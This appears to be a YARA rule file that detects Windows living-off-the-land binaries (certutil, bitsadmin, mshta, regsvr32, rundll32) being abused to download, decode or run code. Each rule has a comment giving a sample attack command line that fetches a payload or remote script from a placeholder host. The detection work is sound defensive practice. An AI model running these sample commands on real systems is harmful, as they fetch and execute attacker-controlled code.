/*
    Living-off-the-land binaries (LOLBins) used to download, decode or run
    code. Each rule looks for a command line, so the strings are searched as
    ASCII and UTF-16LE ("wide") to also cover EVTX, registry and memory.
*/

rule LOLBin_Certutil_URLCache_Download : lolbin download
{
    meta:
        description = "certutil used as a downloader: -urlcache (-split -f) or -verifyctl with an http(s)/ftp URL"
        severity = "high"
        reference = "https://lolbas-project.github.io/lolbas/Binaries/Certutil/"
        mitre_attack = "T1105"
        author = "cybertriage project"
        date = "2025-11-25"

    strings:
        // certutil.exe -urlcache -split -f http://host/payload.exe out.exe
        $urlcache = /\bcertutil(\.exe)?["']?\s[^\r\n]{0,60}[-\/](urlcache|verifyctl)\b[^\r\n]{0,60}(https?|ftp):\/\// nocase ascii wide

    condition:
        $urlcache
}

rule LOLBin_Certutil_Decode : lolbin defense_evasion
{
    meta:
        description = "certutil -decode / -decodehex: decodes a base64 or hex encoded file (payload staging)"
        severity = "medium"
        reference = "https://lolbas-project.github.io/lolbas/Binaries/Certutil/"
        mitre_attack = "T1140"
        author = "cybertriage project"
        date = "2025-11-25"

    strings:
        // certutil -decode payload.b64 payload.exe
        $decode = /\bcertutil(\.exe)?["']?\s[^\r\n]{0,80}[-\/]decode(hex)?\s/ nocase ascii wide

    condition:
        $decode
}

rule LOLBin_Bitsadmin_Transfer : lolbin download persistence
{
    meta:
        description = "bitsadmin used to download a file from a URL (/transfer, /addfile) or to run a command when a job completes (/SetNotifyCmdLine)"
        severity = "high"
        reference = "https://lolbas-project.github.io/lolbas/Binaries/Bitsadmin/"
        mitre_attack = "T1197, T1105"
        author = "cybertriage project"
        date = "2025-11-25"

    strings:
        // bitsadmin /transfer job /download /priority high http://host/a.exe C:\a.exe
        $transfer = /\bbitsadmin(\.exe)?["']?\s[^\r\n]{0,40}[-\/](transfer|addfile)\s[^\r\n]{0,100}(https?|ftp):\/\// nocase ascii wide
        // bitsadmin /SetNotifyCmdLine job cmd.exe "/c ..."
        $notify = /\bbitsadmin(\.exe)?["']?\s[^\r\n]{0,40}[-\/]SetNotifyCmdLine\s/ nocase ascii wide

    condition:
        any of them
}

rule LOLBin_Mshta_Remote_Script : lolbin execution
{
    meta:
        description = "mshta running a remote HTA (http/https URL) or inline script (vbscript:/javascript:)"
        severity = "high"
        reference = "https://lolbas-project.github.io/lolbas/Binaries/Mshta/"
        mitre_attack = "T1218.005"
        author = "cybertriage project"
        date = "2025-11-25"

    strings:
        // mshta http://host/a.hta   mshta vbscript:Execute("...")   mshta javascript:a=...
        $mshta = /\bmshta(\.exe)?["']?\s{1,8}["']?(https?:\/\/|vbscript:|javascript:)/ nocase ascii wide

    condition:
        $mshta
}

rule LOLBin_Regsvr32_Squiblydoo : lolbin execution
{
    meta:
        description = "regsvr32 /i:<URL> scrobj.dll (\"Squiblydoo\"): runs a remote COM scriptlet (.sct)"
        severity = "high"
        reference = "https://lolbas-project.github.io/lolbas/Binaries/Regsvr32/"
        mitre_attack = "T1218.010"
        author = "cybertriage project"
        date = "2025-11-25"

    strings:
        // regsvr32 /s /n /u /i:http://host/file.sct scrobj.dll
        $squiblydoo = /\bregsvr32(\.exe)?["']?\s[^\r\n]{0,60}[-\/]i:["']?(https?|ftp):\/\/[^\r\n]{1,200}\bscrobj(\.dll)?\b/ nocase ascii wide

    condition:
        $squiblydoo
}

rule LOLBin_Rundll32_Script_Protocol : lolbin execution
{
    meta:
        description = "rundll32 running script through mshtml (javascript:/vbscript: or RunHTMLApplication)"
        severity = "high"
        reference = "https://lolbas-project.github.io/lolbas/Binaries/Rundll32/"
        mitre_attack = "T1218.011"
        author = "cybertriage project"
        date = "2025-11-25"

    strings:
        // rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";document.write();...
        $script = /\brundll32(\.exe)?["']?\s{1,8}["']?(javascript|vbscript):/ nocase ascii wide
        $runhta = /\bmshtml(\.dll)?\s{0,4},\s{0,4}#?RunHTMLApplication\b/ nocase ascii wide

    condition:
        any of them
}
